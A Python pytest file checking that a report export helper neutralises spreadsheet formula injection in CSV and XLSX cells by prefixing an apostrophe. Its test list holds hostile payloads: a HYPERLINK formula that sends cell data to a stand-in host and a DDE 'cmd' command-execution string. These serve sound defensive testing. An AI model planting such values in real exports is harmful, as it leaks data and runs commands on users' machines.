"""The one cell helper of every export: formula injection neutralised in CSV and XLSX."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from reports.spreadsheet import csv_text, safe_cell, xlsx_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_injection_neutralised_in_csv(value: str) -> None:
    assert safe_cell(value) == "'" + value
    rows = list(csv.reader(io.StringIO(csv_text(["h"], [[value]]).lstrip("\ufeff"))))
    assert rows == [["h"], ["'" + value]]


def test_formula_injection_neutralised_in_xlsx() -> None:
    sheet = load_workbook(io.BytesIO(xlsx_bytes("t", ["=h"], [[v] for v in HOSTILE] + [["plain"], [12]]))).active
    cells = [row[0] for row in sheet.iter_rows()]
    # XML turns a carriage return into a line feed on reading; the text is otherwise exact.
    assert [c.value for c in cells] == ["=h", *(v.replace("\r", "\n") for v in HOSTILE), "plain", "12"]
    assert all(c.data_type == "s" for c in cells)  # text, never a formula
    assert [c.quotePrefix for c in cells] == [True] * (len(HOSTILE) + 1) + [False, False]


def test_ordinary_values_are_unchanged() -> None:
    assert [safe_cell(v) for v in ("Amina", "0612345678", None, True, 5, "a=b")] == [
        "Amina", "0612345678", "", "yes", "5", "a=b"]
